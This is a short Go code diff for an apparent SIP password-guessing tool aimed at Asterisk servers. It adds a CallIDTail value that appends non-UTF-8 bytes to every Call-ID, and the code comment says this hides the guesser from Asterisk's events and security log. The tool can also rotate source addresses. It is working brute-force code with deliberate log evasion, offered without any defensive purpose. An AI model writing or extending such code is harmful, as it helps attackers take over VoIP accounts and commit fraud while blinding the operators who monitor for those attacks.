@@ -37,6 +37,10 @@ type Guesser struct {
 
 	// Rove makes every guess from another address of the host's network.
 	Rove bool
+
+	// CallIDTail ends every Call-ID. Bytes that are no UTF-8 hide the guesser from Asterisk's
+	// events and from its security log.
+	CallIDTail string
 }
 
 // Guesses is how guessing went, as the guesser saw it.
@@ -222,7 +226,7 @@ func (r *guessing) register(i int, from netip.Addr, challenge string) []byte {
 		header{"Max-Forwards", "70"},
 		header{"From", address + ";tag=" + id},
 		header{"To", address},
-		header{"Call-ID", id},
+		header{"Call-ID", id + r.CallIDTail},
 		header{"CSeq", ask},
 		header{"Contact", fmt.Sprintf("<sip:%s@%s:%d>", r.Account, at, r.port)},
 		header{"Expires", "60"})
@@ -272,7 +276,7 @@ func (r *guessing) listen() {
 // heard takes one response, which came to the address at.
 func (r *guessing) heard(m *message, at netip.Addr) {
 	code, _ := m.status()
-	number, run, _ := strings.Cut(m.get("Call-ID"), "-")
+	number, run, _ := strings.Cut(strings.TrimSuffix(m.get("Call-ID"), r.CallIDTail), "-")
 	i, err := strconv.Atoi(number)
 	if err != nil || code < 200 || run != r.run {
 		return
